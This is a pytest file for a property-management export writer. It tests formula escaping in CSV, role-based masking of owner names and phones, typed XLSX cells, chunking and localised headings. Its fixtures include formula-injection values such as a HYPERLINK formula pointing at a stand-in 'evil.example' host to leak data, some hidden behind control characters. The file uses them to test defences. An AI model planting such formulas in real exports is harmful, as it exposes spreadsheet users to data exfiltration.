"""The shared export writer: formula escaping, masking by role, CSV with a BOM, XLSX, chunks."""
import csv
import io

import openpyxl
import pytest

from estate_common import exports, personal_data
from estate_common.exports import Column, field

COLUMNS = [field("id", "_id"), field("name", "owner.name", personal_data.OWNER_NAME),
           field("phone", "owner.phone", personal_data.OWNER_PHONE), field("amount_cents"), field("note")]
DOCS = [{"_id": "hh_1", "owner": {"name": "张三", "phone": "13800138000"}, "amount_cents": -1250,
         "note": "=HYPERLINK(\"http://x\")"},
        {"_id": "hh_2", "owner": {"name": "Li Lei", "phone": "13900139000"}, "amount_cents": 0, "note": None}]


@pytest.mark.parametrize("value, written", [
    ("=1+2", "'=1+2"), ("+86 138", "'+86 138"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    (-5, -5), (1.5, 1.5), (None, None), (True, True),
])
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert exports.escape(value) == written


def test_lists_become_text_escaped_in_csv_as_any_text():
    assert exports.cell(["a", "b"]) == "a; b"
    assert exports.cell(["-1", "b"]) == "-1; b"  # each format keeps it from running its own way
    content = _csv_of_one({"_id": "hh_5", "owner": {}, "amount_cents": 1, "note": ["-1", "b"]})
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][4] == "'-1; b"


def test_personal_data_is_masked_for_roles_that_do_not_see_it_in_full():
    full_for_agent = exports.full_kinds(COLUMNS, ["agent"])
    assert full_for_agent == [personal_data.OWNER_NAME, personal_data.OWNER_PHONE]
    assert exports.row(COLUMNS, DOCS[0], full_for_agent)[1:3] == ["张三", "13800138000"]
    cashier = exports.full_kinds(COLUMNS, ["cashier"])  # the owner's name, not the phone
    assert cashier == [personal_data.OWNER_NAME]
    assert exports.row(COLUMNS, DOCS[0], cashier)[1:3] == ["张三", "138****8000"]
    assert exports.row(COLUMNS, DOCS[1], [])[1:3] == ["L* ***", "139****9000"]


def test_a_file_written_in_full_is_downloaded_only_by_roles_that_see_it_in_full():
    assert exports.may_download([], ["technician"])
    assert exports.may_download([personal_data.OWNER_NAME], ["cashier"])
    assert not exports.may_download([personal_data.OWNER_NAME, personal_data.OWNER_PHONE], ["cashier"])


def collect(write, *args, size=exports.CHUNK_BYTES):
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append((n, data)), size)
    count = write(COLUMNS, iter(DOCS), *args, sink)
    sink.close()
    assert [n for n, _ in chunks] == list(range(len(chunks)))
    return count, b"".join(data for _, data in chunks), sink


def test_csv_is_utf8_with_a_bom_and_escapes_formulas():
    count, content, sink = collect(exports.write_csv, [personal_data.OWNER_NAME])
    assert count == 2 and content.startswith(b"\xef\xbb\xbf") and sink.bytes == len(content)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["id", "name", "phone", "amount_cents", "note"]
    assert rows[1] == ["hh_1", "张三", "138****8000", "-1250", "'=HYPERLINK(\"http://x\")"]
    assert rows[2] == ["hh_2", "Li Lei", "139****9000", "0", ""]


def test_xlsx_keeps_numbers_as_numbers_and_text_as_string_cells():
    count, content, _ = collect(exports.write_xlsx, [])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert count == 2 and rows[0] == ["id", "name", "phone", "amount_yuan", "note"]
    assert rows[1] == ["hh_1", "张*", "138****8000", -12.5, "=HYPERLINK(\"http://x\")"]
    assert rows[2][3] == 0 and rows[2][4] is None
    assert [c.data_type for c in sheet[2]] == ["s", "s", "s", "n", "s"]
    assert sheet["D2"].number_format == "#,##0.00"


def test_an_xlsx_is_read_by_people_in_yuan_and_on_the_estates_clock_a_csv_by_systems_in_cents_and_utc():
    """An accountant opened an XLSX of bills and read 12000 for ¥120.00, and times eight hours off (a probe)."""
    from datetime import datetime
    columns = [exports.field("amount_cents"), exports.field("created_at"), exports.field("day"),
               exports.field("settled_at"), *exports.custom_columns(["deposit_cents", "handed_over_at"])]
    doc = {"amount_cents": 12000, "created_at": "2026-11-30T16:30:00.000Z", "day": "2026-12-01", "settled_at": None,
           "custom": {"deposit_cents": 5000, "handed_over_at": "2026-01-05"}}
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
    exports.write_xlsx(columns, iter([doc]), set(), sink, timezone="Asia/Shanghai")
    sink.close()
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(chunks))).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows == [["amount_yuan", "created_at (Asia/Shanghai)", "day", "settled_at (Asia/Shanghai)",
                     "custom.deposit_cents", "custom.handed_over_at"],  # custom fields as written: review
                    [120, datetime(2026, 12, 1, 0, 30), "2026-12-01", None, "5000", "2026-01-05"]]
    assert sheet["A2"].number_format == "#,##0.00" and sheet["B2"].number_format == "yyyy-mm-dd hh:mm:ss"
    chunks.clear()
    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
    exports.write_csv(columns, iter([doc]), set(), sink)
    sink.close()
    assert b"".join(chunks).decode("utf-8-sig").splitlines() == [
        "amount_cents,created_at,day,settled_at,custom.deposit_cents,custom.handed_over_at",
        "12000,2026-11-30T16:30:00.000Z,2026-12-01,,5000,2026-01-05"]


def _csv_of_one(doc):
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
    assert exports.write_csv(COLUMNS, iter([doc]), {personal_data.OWNER_NAME, personal_data.OWNER_PHONE}, sink) == 1
    sink.close()
    return b"".join(chunks)


def _cells_xml(content):
    """Each cell of the first sheet as its XML says: (reference, type, formula or None, text)."""
    import zipfile
    from xml.etree import ElementTree
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    return {c.get("r"): (c.get("t"), c.findtext("m:f", namespaces=ns), c.findtext("m:is/m:t", namespaces=ns))
            for c in root.iter(f"{{{ns['m']}}}c")}


def test_xlsx_writes_formula_like_text_as_it_is_in_string_cells_and_csv_still_escapes_it():
    """Found by a probe: the CSV's protecting "'" showed in XLSX cells as data ("'+8613800000000").
    An XLSX string cell is never evaluated, so the text is written as it is, typed as a string."""
    doc = {"_id": "hh_6", "owner": {"name": '=HYPERLINK("https://evil.example/?leak","Click")',
                                    "phone": "+8613800000000"}, "amount_cents": 1, "note": "#N/A"}
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
    exports.write_xlsx(COLUMNS, iter([doc]), {personal_data.OWNER_NAME, personal_data.OWNER_PHONE}, sink)
    sink.close()
    content = b"".join(chunks)
    cells = _cells_xml(content)
    assert cells["B2"] == ("inlineStr", None, '=HYPERLINK("https://evil.example/?leak","Click")')
    assert cells["C2"] == ("inlineStr", None, "+8613800000000")
    assert cells["E2"] == ("inlineStr", None, "#N/A")  # text, not an error cell
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type) for c in sheet[2]][1:3] == [
        ('=HYPERLINK("https://evil.example/?leak","Click")', "s"), ("+8613800000000", "s")]
    row = list(csv.reader(io.StringIO(_csv_of_one(doc).decode("utf-8-sig"), newline="")))[1]
    assert row[1:3] == ['\'=HYPERLINK("https://evil.example/?leak","Click")', "'+8613800000000"]


def _xlsx_of_one(doc):
    """The XLSX bytes of ``doc`` exported with the owner's name in full."""
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
    assert exports.write_xlsx(COLUMNS, iter([doc]), {personal_data.OWNER_NAME}, sink) == 1
    sink.close()
    return b"".join(chunks)


def test_xlsx_drops_the_control_characters_a_worksheet_cannot_hold():
    """A name pasted with a control character made openpyxl refuse the whole file: every XLSX
    export failed for the roles that see names in full."""
    content = _xlsx_of_one({"_id": "hh_3", "owner": {"name": "欧阳\u0007小明", "phone": "13800138000"},
                            "amount_cents": 1, "note": "a\x1bb"})
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [list(r) for r in sheet.iter_rows(values_only=True)][1][1:2] == ["欧阳小明"]


def test_a_formula_behind_a_control_character_stays_text_in_xlsx():
    """Found by review: an owner-portal description "\x01=HYPERLINK(...)" escaped nothing (it did
    not start with "="), then lost its control character to the worksheet and became a live formula."""
    import zipfile
    content = _xlsx_of_one({"_id": "hh_4", "owner": {"name": "\x02=1+1", "phone": "13800138000"}, "amount_cents": 1,
                            "note": '\x01=HYPERLINK("https://evil.example/?leak","Click")'})
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    cells = _cells_xml(content)
    assert cells["B2"] == ("inlineStr", None, "=1+1")
    assert cells["E2"] == ("inlineStr", None, '=HYPERLINK("https://evil.example/?leak","Click")')


def test_a_file_is_cut_into_numbered_chunks():
    _, whole, sink = collect(exports.write_csv, [], size=16)
    assert sink.count == -(-len(whole) // 16)


def test_an_empty_export_is_one_chunk_with_the_header():
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append(data))
    assert exports.write_csv(COLUMNS, iter(()), [], sink) == 0
    sink.close()
    assert len(chunks) == 1 and chunks[0].decode("utf-8-sig").startswith("id,name")


def test_custom_fields_become_columns_after_the_resources_own():
    columns = [field("id", "_id")] + exports.custom_columns(["colour", "=evil"])
    assert [c.name for c in columns] == ["id", "custom.colour", "custom.=evil"]
    assert exports.row(columns, {"_id": "x", "custom": {"colour": "-red"}}, []) == ["x", "-red", ""]  # escaped by CSV
    assert exports.row(columns, {"_id": "y", "custom": {"colour": False}}, []) == ["y", "false", ""]  # as imported


def test_a_column_of_a_missing_path_is_empty():
    assert exports.row([field("a", "x.y.z"), Column("b", lambda d: 3)], {"x": {"y": None}}, []) == [None, 3]


def test_each_resource_has_an_owner_and_a_job_kind():
    assert {exports.resource_of(exports.job_kind(r)) for r in exports.RESOURCES} == set(exports.RESOURCES)
    assert exports.resource_of("billing_run") is None and exports.resource_of("export_nothing") is None


def test_the_kinds_written_in_full_are_those_with_a_value_shown_in_full():
    written = set()
    exports.row(COLUMNS, {"_id": "x", "owner": {"name": "", "phone": None}}, [personal_data.OWNER_NAME], written)
    assert written == set()  # nothing personal in the file: any reader of the list may download it
    exports.row(COLUMNS, DOCS[0], [personal_data.OWNER_NAME], written)
    assert written == {personal_data.OWNER_NAME}  # the phone was masked


def test_a_description_counts_as_written_in_full_only_where_a_number_was_kept():
    """A repair's description is free text: the file of a desk that exported descriptions with no
    number in them holds nothing its readers could not see, so a technician may download it."""
    text = personal_data.NUMBERS_IN_TEXT
    columns = [field("id", "_id"), field("description", personal=text)]
    written = set()
    assert exports.row(columns, {"_id": "sr_1", "description": "tap in 3-201 drips"}, [text], written)[1] \
        == "tap in 3-201 drips"
    assert written == set()
    full = exports.row(columns, {"_id": "sr_2", "description": "漏水, 请联系13800138000"}, [text], written)
    assert full[1] == "漏水, 请联系13800138000" and written == {text}
    assert exports.row(columns, {"_id": "sr_2", "description": "漏水, 请联系13800138000"}, [])[1] \
        == "漏水, 请联系138****8000"
    assert exports.full_kinds(columns, ["technician"]) == [] and exports.full_kinds(columns, ["agent"]) == [text]


def test_a_name_the_row_holds_is_masked_where_its_free_text_repeats_it_as_the_api_masks_it():
    """The gateway masks a name a record holds where its free text repeats it, for whoever reads both
    the name and the text's numbers masked (h8); an export of the same records wrote the name in
    full in the description beside its masked column (the last session's note)."""
    text, name = personal_data.NUMBERS_IN_TEXT, personal_data.RESIDENT_NAME
    columns = [field("id", "_id"), field("description", personal=text), field("contact_name", "contact.name", name)]
    doc = {"_id": "sr_1", "description": "王建国说厨房漏水, 请联系13800138000", "contact": {"name": "王建国"}}
    assert exports.row(columns, doc, exports.full_kinds(columns, ["technician"])) == \
        ["sr_1", "王**说厨房漏水, 请联系138****8000", "王**"]
    assert exports.row(columns, doc, exports.full_kinds(columns, ["agent"])) == \
        ["sr_1", "王建国说厨房漏水, 请联系13800138000", "王建国"]
    # who reads the name in full reads it in its text too (the numbers masked as before)
    owner = [field("id", "_id"), field("note", personal=text), field("owner_name", "owner.name", personal_data.OWNER_NAME)]
    cashier = exports.full_kinds(owner, ["cashier"])
    assert exports.row(owner, {"_id": "hh_1", "note": "张三 13800138000", "owner": {"name": "张三"}}, cashier) == \
        ["hh_1", "张三 138****8000", "张三"]
    # a name in a guard's words is masked as in a household's text; a name no column holds stays
    guards = [field("notes", personal=personal_data.NUMBERS_IN_GUARDS_TEXT),
              field("name", personal=personal_data.VISITOR_NAME)]
    assert exports.row(guards, {"notes": "李四 等业主 张三", "name": "李四"}, []) == ["李* 等业主 张三", "李*"]


# -- in the reader's language -------------------------------------------------------------------

LABELLED = [field("id", "_id"), field("status", labels="household_status"), field("owner_phone", "owner.phone",
            personal_data.OWNER_PHONE), field("amount_cents"), field("escalated"), field("created_at"),
            field("item", labels="fee"), field("note"), field("detail.cents_per_m2"),
            *exports.custom_columns(["pets"], {"pets": {"zh": "宠物", "en": "Pets"}})]
LABELLED_DOC = {"_id": "hh_1", "status": "occupied", "owner": {"phone": "13800138000"}, "amount_cents": 123456789,
                "escalated": False, "created_at": "2026-11-30T16:30:05.000Z", "item": "a_fee_added_later",
                "note": "-3", "detail": {"cents_per_m2": 150}, "custom": {"pets": "cat"}}


def _written(write, language=None, **more):
    chunks = []
    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
    extra = {"language": language} if language else {}
    assert write(LABELLED, iter([LABELLED_DOC, {"_id": "hh_2", "amount_cents": -1}]), set(), sink,
                 **extra, **more) == 2
    sink.close()
    return b"".join(chunks)


def test_without_a_language_a_csv_is_written_as_before_byte_for_byte():
    """Integrators who send no language read the API's names and codes, cents and UTC, as ever: a
    column's labels and a custom field's label change nothing (the file of the writer before)."""
    assert _written(exports.write_csv) == _written(exports.write_csv, timezone="Asia/Shanghai") == (
        "\ufeffid,status,owner_phone,amount_cents,escalated,created_at,item,note,detail.cents_per_m2,custom.pets\r\n"
        "hh_1,occupied,138****8000,123456789,False,2026-11-30T16:30:05.000Z,a_fee_added_later,'-3,150,cat\r\n"
        "hh_2,,,-1,,,,,,\r\n").encode("utf-8")


@pytest.mark.parametrize("language, expected", [
    ("zh", [["编号（系统）", "状态", "业主电话", "金额（元）", "已升级", "登记时间（Asia/Shanghai）", "收费项目", "备注",
             "明细：单价（元/㎡）", "custom.pets (宠物)"],
            ["hh_1", "已入住", "138****8000", "1234567.89", "否", "2026-12-01 00:30:05", "a_fee_added_later", "'-3",
             "1.50", "cat"],
            ["hh_2", "", "", "-0.01", "", "", "", "", "", ""]]),
    ("en", [["Id", "Status", "Owner phone", "Amount (yuan)", "Escalated", "Registered at (Asia/Shanghai)", "Item",
             "Note", "Detail: price (yuan per m²)", "custom.pets (Pets)"],
            ["hh_1", "Occupied", "138****8000", "1234567.89", "No", "2026-12-01 00:30:05", "a_fee_added_later", "'-3",
             "1.50", "cat"],
            ["hh_2", "", "", "-0.01", "", "", "", "", "", ""]]),
])
def test_a_csv_in_a_language_is_read_by_people_in_their_words_yuan_and_the_estates_clock(language, expected):
    """A Chinese front desk opened the export in Excel and read occupied, 123456789 and times eight
    hours off: in a language the headings are the fields' names, codes their labels (one the labels
    do not name yet stays a code), a yes or no, the cents exact in yuan (not escaped as a formula when
    negative: a number), times on the estate's clock; the phone masked as without a language, text
    still escaped; the byte order mark Excel needs to read UTF-8 (not GBK) is there."""
    content = _written(exports.write_csv, language, timezone="Asia/Shanghai")
    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == expected


def test_an_xlsx_in_a_language_keeps_its_cells_typed():
    from datetime import datetime
    from decimal import Decimal
    sheet = openpyxl.load_workbook(io.BytesIO(_written(exports.write_xlsx, "zh", timezone="Asia/Shanghai"))).active
    header, first, second = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header[:6] == ["编号（系统）", "状态", "业主电话", "金额（元）", "已升级", "登记时间（Asia/Shanghai）"]
    assert first[:8] == ["hh_1", "已入住", "138****8000", 1234567.89, "否", datetime(2026, 12, 1, 0, 30, 5),
                         "a_fee_added_later", "-3"]
    assert Decimal(str(first[3])) == Decimal("1234567.89") and second[3] == -0.01
    assert sheet["D2"].number_format == "#,##0.00" and sheet["F2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert sheet["H2"].data_type == "s"  # text as text, never a formula


def test_every_amount_a_language_writes_in_yuan_is_headed_in_yuan():
    """An amount's heading names its unit in both languages, so a reader never takes yuan for cents."""
    from estate_common import labels
    amounts = [key for key in labels.MESSAGES if key.startswith("field.") and exports._is_amount(key)]
    assert len(amounts) >= 10
    for key in amounts:
        assert "元" in labels.text(key, "zh") and "yuan" in labels.text(key, "en"), key


def test_a_jobs_language_is_passed_to_its_writer_and_none_is_as_before():
    saved = []
    job = {"_id": "job_archive_1", "estate_id": "E", "params": {"resource": "households", "format": "csv",
                                                                "full": [], "filters": {}}}
    columns = [field("status", labels="household_status"), field("created_at")]
    doc = {"status": "vacant", "created_at": "2026-11-30T16:30:05.000Z"}
    for language in (None, "en"):
        saved.clear()
        params = {**job["params"], **({"language": language} if language else {})}
        exports.run({**job, "params": params}, columns, iter([doc]), lambda n, data, expires: saved.append(data),
                    lambda *a: None, timezone="Asia/Shanghai")
        lines = b"".join(saved).decode("utf-8-sig").splitlines()
        assert lines == (["status,created_at", "vacant,2026-11-30T16:30:05.000Z"] if language is None else
                          ["Status,Registered at (Asia/Shanghai)", "Vacant,2026-12-01 00:30:05"])


def test_documents_take_their_households_address_read_a_batch_at_a_time():
    """A bill's, a payment's or a visitor's flat beside its household id (finance's and security's
    exports), one read of the service's copies per ``ADDRESS_BATCH`` documents, none for no household."""
    reads = []

    def addresses(ids):
        reads.append(len(ids))
        return {hh: {"building": "1", "unit": "2", "room": hh[3:]} for hh in ids if hh != "hh_gone"}
    docs = [{"id": n, "household_id": f"hh_{n}" if n % 7 else None} for n in range(1, 1201)] + [
        {"id": 0, "household_id": "hh_gone"}]
    rows = list(exports.with_addresses(iter(docs), lambda doc: doc["household_id"], addresses))
    assert [row["id"] for row in rows] == [doc["id"] for doc in docs]
    assert rows[0] == {"id": 1, "household_id": "hh_1", "building": "1", "unit": "2", "room": "1"}
    assert rows[6] == {"id": 7, "household_id": None, "building": None, "unit": None, "room": None}
    assert rows[-1]["building"] is None  # a copy not come yet
    assert len(reads) == 3 and sum(reads) == len([d for d in docs if d["household_id"]])
